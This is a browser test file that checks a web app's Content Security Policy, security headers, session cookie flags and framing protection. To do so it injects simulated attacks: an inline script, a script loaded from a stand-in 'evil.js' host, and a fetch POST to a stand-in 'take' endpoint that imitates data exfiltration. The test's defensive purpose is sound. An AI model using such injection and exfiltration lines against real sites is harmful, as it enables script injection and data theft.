// What a browser holds to when something of another's has got into a page of ours.
import { expect, setUp, test } from '../support/studio.ts';

// The browser says what it refused.
test.use({ mayLog: /Content Security Policy|violates the following/ });

test('nothing runs, loads, leaves or frames that is not ours', async ({ page, context, studio }) => {
  await setUp(page, studio);
  const answer = await page.goto(studio.url);
  const headers = answer!.headers();
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('same-origin');
  expect(headers['permissions-policy']).toContain('camera=()');
  expect(headers['cache-control']).toContain('no-store');

  // The session is out of reach for scripts, and stays here.
  expect(await page.evaluate(() => document.cookie)).not.toContain('soundstage=');
  const [cookie] = (await context.cookies()).filter(({ name }) => name === 'soundstage');
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });

  const refused = await page.evaluate(async () => {
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const add = (name: string, with_: Record<string, string>, text = '') => {
      const element = document.createElement(name);
      for (const [attribute, value] of Object.entries(with_)) element.setAttribute(attribute, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add('script', {}, 'window.stolen = 1');
    add('script', { src: 'http://127.0.0.1:9/evil.js' });
    add('button', { onclick: 'window.stolen = 2' }).click();
    add('img', { src: 'http://127.0.0.1:9/seen.png' });
    add('style', {}, 'body { display: none }');
    add('iframe', { src: 'http://127.0.0.1:9/' });
    add('object', { data: '/favicon.svg' });
    await fetch('http://127.0.0.1:9/take', { method: 'POST', body: 'all' }).catch(() => {});
    for (let turn = 0; turn < 100 && refused.size < 7; turn++) await new Promise(requestAnimationFrame);
    return { refused: [...refused].sort(), stolen: 'stolen' in window };
  });
  expect(refused.stolen).toBe(false);
  expect(refused.refused).toEqual([
    'connect-src',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ]);

  // Another site cannot draw a page of ours into its own.
  const thief = await context.newPage();
  await thief.goto('data:text/html,<title>elsewhere</title>');
  await thief.setContent(`<iframe src="${studio.url}/sign-in"></iframe>`);
  await expect.poll(() => thief.frames().map((frame) => frame.url())).toContainEqual(expect.stringMatching(/^chrome-error/));
});
